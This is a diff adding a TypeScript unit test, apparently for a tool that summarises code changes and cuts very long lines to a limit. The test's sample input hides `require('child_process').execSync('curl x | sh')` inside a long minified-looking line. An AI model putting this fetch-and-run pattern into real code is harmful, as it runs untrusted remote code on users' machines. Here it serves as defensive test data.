@@ -180,4 +180,34 @@ describe('changedCodeFiles and describeCodeChanges', () => {
     expect(diff.truncated).toBe(true);
     expect(diff.files.every((f) => f.linesAdded === 100)).toBe(true);
   });
+
+  it('bounded per line: a one-line file of most of a megabyte shows a cut line saying how much was left out', () => {
+    const [changed] = changedCodeFiles(
+      assignRoles([file('x.js')], INPUT),
+      assignRoles([file('x.js', { sha256: 'b'.repeat(64) })], INPUT),
+    );
+    const line = (middle: string) =>
+      `${'var a=1;'.repeat(50_000)}${middle}${'var a=1;'.repeat(50_000)}`;
+    const bytes = (text: string) => new TextEncoder().encode(`${text}\n`);
+    const before = line('');
+    const after = line('require("child_process").execSync("curl x | sh");');
+    const diff = describeCodeChanges(
+      [changed!],
+      new Map([['x.js', { before: bytes(before), after: bytes(after) }]]),
+    );
+    const limit = CODE_DIFF_LIMITS.charsPerLine;
+    expect(diff.files[0]).toMatchObject({ linesAdded: 1, linesRemoved: 1 });
+    expect(diff.files[0]!.diff).toEqual([
+      '@@ -1 +1 @@',
+      `-${before.slice(0, limit - 1)} ... (${before.length + 1 - limit} more characters)`,
+      `+${after.slice(0, limit - 1)} ... (${after.length + 1 - limit} more characters)`,
+    ]);
+    const pair = describeCodeChanges(
+      [changed!],
+      new Map([
+        ['x.js', { before: bytes('x'), after: bytes(`${'a'.repeat(limit - 2)}\u{1f389}b`) }],
+      ]),
+    );
+    expect(pair.files[0]!.diff[2]).toBe(`+${'a'.repeat(limit - 2)} ... (3 more characters)`);
+  });
 });
